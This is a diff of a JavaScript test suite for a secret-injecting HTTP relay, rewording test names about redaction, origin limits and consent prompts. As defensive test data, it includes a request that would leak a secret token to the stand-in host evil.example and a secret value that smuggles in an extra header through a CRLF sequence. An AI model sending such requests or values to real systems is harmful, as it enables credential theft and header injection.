@@ -34,7 +34,7 @@ describe("secrets in requests", () => {
       assert.ok(!reported.includes(JSON.stringify(form).slice(1, -1)), `told: ${form}`);
   };
 
-  it("are put in where they stand, in the form of the place", async () => {
+  it("are inserted in place with the encoding of their position", async () => {
     const receivedMessages = await tryRelay(world(undefined, 'a b"&')).ask({
       method: "POST",
       url: `${server.origin}/{{secret:token}}?key={{secret:token}}`,
@@ -51,7 +51,7 @@ describe("secrets in requests", () => {
     assert.equal(rest.at(-1), '{"password":"a b\\"&","list":["{{name}}"]}');
   });
 
-  it("are shown by their names only, even where the server sends them back", async () => {
+  it("are shown only by name, even if the server returns them", async () => {
     answer = () =>
       `HTTP/1.1 200 ${canary}\r\nContent-Length: 0\r\nX-Echo: ${Buffer.from(canary).toString("latin1")}\r\nX-Echo: ${forms[4] ?? ""}\r\nLocation: /?${encodeURIComponent(canary)}\r\n\r\n`;
     const receivedMessages = await tryRelay(world()).ask({
@@ -73,7 +73,7 @@ describe("secrets in requests", () => {
     hasNone(receivedMessages);
   });
 
-  it("are not shown in what a server sends back of them, wherever its pieces are cut", async () => {
+  it("are redacted in responses, wherever the chunks are split", async () => {
     const value = "canary-value-99";
     const text = `{"authorization":"Bearer ${value}","basic":"${Buffer.from(`ada:${value}`).toString("base64")}","near":"canary-value-98"}`;
     for (let cut = 1; cut < text.length; cut += 3) {
@@ -96,7 +96,7 @@ describe("secrets in requests", () => {
   });
 
   for (const type of ["image/png", "application/octet-stream", "application/zip", "no type"])
-    it(`aren't shown in a body of the type ${type}`, async () => {
+    it(`are redacted in a body of type ${type}`, async () => {
       const body = "\x89PNG \xff canary-value-99 \xff";
       answer = () =>
         `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
@@ -105,7 +105,7 @@ describe("secrets in requests", () => {
       assert.equal(receivedMessages.body.toString("latin1"), "\x89PNG \xff {{secret:token}} \xff");
     });
 
-  it("leave a body in which there are none as it is, byte for byte", async () => {
+  it("leave a body without secrets unchanged, byte for byte", async () => {
     const body = Buffer.from(Array.from({ length: 1024 }, (_, at) => at % 256)).toString("latin1");
     answer = () => `HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
     const { ask } = tryRelay(world(undefined, "canary-value-99"));
@@ -113,7 +113,7 @@ describe("secrets in requests", () => {
     assert.equal(receivedMessages.body.toString("latin1"), body);
   });
 
-  it("aren't shown if a server spells them as PHP, Go, or HTML does, in the head, a redirect, or the body", async () => {
+  it("are redacted in the head, redirects, and body if a server encodes them as PHP, Go, or HTML does", async () => {
     const value = "canary/<99>&ok";
     const spelled = ["canary\\/<99>&ok", "canary/\\u003c99\\u003e\\u0026ok", "canary/&lt;99&gt;&amp;ok", "canary%2F%3C99%3E%26ok"]; // prettier-ignore
     answer = (request) =>
@@ -132,7 +132,7 @@ describe("secrets in requests", () => {
     assert.equal(receivedMessages.text, marks);
   });
 
-  it("go to the origin that they belong to and to no other", async () => {
+  it("are sent only to their own origin", async () => {
     const { ask, questions } = tryRelay(world("https://api.example.com"));
     const before = server.sockets.length;
     const { failure } = await ask({
@@ -147,21 +147,21 @@ describe("secrets in requests", () => {
     assert.ok(failure?.message.includes("https://api.example.com"));
   });
 
-  it("are not looked for where the request goes to an undeclared place", async () => {
+  it("aren't read for an undeclared target", async () => {
     let requested = 0;
     const { ask } = tryRelay({ ...world(), secrets: new Proxy({}, { get: () => void requested++ }) });
     const { failure } = await ask({ method: "GET", url: "http://evil.example/{{secret:token}}" });
     assert.deepEqual([failure?.code, requested], ["undeclared", 0]);
   });
 
-  it("have to be there", async () => {
+  it("must exist", async () => {
     const { ask } = tryRelay(world());
     const { failure } = await ask({ method: "POST", url: server.origin, body: "{{secret:nobody}}" });
     assert.equal(failure?.code, "unknown-secret");
     assert.ok(failure?.message.includes("nobody"));
   });
 
-  it("are named in the question to the person", async () => {
+  it("are listed in the consent request", async () => {
     const { ask, questions } = tryRelay(world());
     await ask({ method: "GET", url: server.origin, header: { "X-Key": "{{secret:token}}" } });
     assert.deepEqual(
@@ -170,7 +170,7 @@ describe("secrets in requests", () => {
     );
   });
 
-  it("that would end a header are not sent, and the failure does not tell them", async () => {
+  it("with a line break in a header aren't sent, and the error doesn't contain them", async () => {
     const { ask } = tryRelay(world(undefined, "first\r\nX-Injected: 1"));
     const before = server.sockets.length;
     const receivedMessages = await ask({
@@ -182,7 +182,7 @@ describe("secrets in requests", () => {
     assert.ok(!JSON.stringify(receivedMessages.failure).includes("Injected"));
   });
 
-  it("that look like a mark are not opened again", async () => {
+  it("that look like a reference aren't resolved again", async () => {
     const { ask } = tryRelay({
       targets: [server.origin],
       secrets: {
@@ -194,7 +194,7 @@ describe("secrets in requests", () => {
     assert.ok(received().endsWith("\r\n\r\n{{secret:b}}"));
   });
 
-  it("named in a redirect of a server are text", async () => {
+  it("referenced in a server's redirect are plain text", async () => {
     answer = (request) =>
       request.startsWith("GET /first")
         ? "HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: /next?{{secret:token}}\r\n\r\n"
@@ -204,7 +204,7 @@ describe("secrets in requests", () => {
     assert.match(received(), /^GET \/next\?\{\{secret:token\}\} /);
   });
 
-  it("named in a cookie of a server are text", async () => {
+  it("referenced in a server's cookie are plain text", async () => {
     const jar = { cookiesFor: () => "a={{secret:token}}", take: () => undefined };
     await tryRelay({ ...world(), jar: () => jar }).ask({
       method: "GET",
